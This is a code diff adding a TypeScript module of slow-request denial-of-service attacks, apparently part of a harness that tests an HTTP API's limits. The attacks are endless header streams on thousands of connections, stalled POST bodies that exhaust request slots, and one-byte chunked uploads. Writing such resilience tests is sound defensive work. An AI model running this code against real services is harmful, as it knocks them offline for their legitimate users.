@@ -1,0 +1,38 @@
+import type { Attack } from './attack.ts';
+import { withSockets, write } from './open-sockets.ts';
+import { bearer, request } from './requests.ts';
+
+/** As many headers as the size limit allows. */
+const headers = `GET / HTTP/1.1\r\n${'a:\r\n'.repeat(3_900)}`;
+
+/** Sends 3,900 headers without an end on each of 4,000 connections, without a key. */
+export const stallHeaders: Attack = (target) =>
+  withSockets(target, async ({ open, untilOver, isOver }) => {
+    for (let opened = 0; opened < 4_000 && !isOver(); opened += 100) {
+      await Promise.all(Array.from({ length: 100 }, async () => write(await open(), headers)));
+    }
+    await untilOver();
+  });
+
+const post = (apiKey: string, header: string): string =>
+  request('POST /v1/pets', [bearer(apiKey), 'Content-Type: application/json', header]);
+
+/** Begins 1,100 bodies with one key, more than the default number of slots, and sends none of their bytes. */
+export const stallBodies: Attack = (target) =>
+  withSockets(target, async ({ open, wait, untilOver }) => {
+    const head = post(target.apiKey, 'Content-Length: 100');
+    // In small steps, because the attack is on the slots, not on the time to accept connections.
+    for (let opened = 0; opened < 1_100; opened += 50) {
+      await Promise.all(Array.from({ length: 50 }, async () => write(await open(), head)));
+      await wait(50);
+    }
+    await untilOver();
+  });
+
+/** Sends 100 bodies at once, each in 60,000 chunks of one byte, without an end. */
+export const sendTinyChunks: Attack = (target) =>
+  withSockets(target, async ({ open, untilOver }) => {
+    const bytes = post(target.apiKey, 'Transfer-Encoding: chunked') + '1\r\n1\r\n'.repeat(60_000);
+    await Promise.all(Array.from({ length: 100 }, async () => write(await open(), bytes)));
+    await untilOver();
+  });
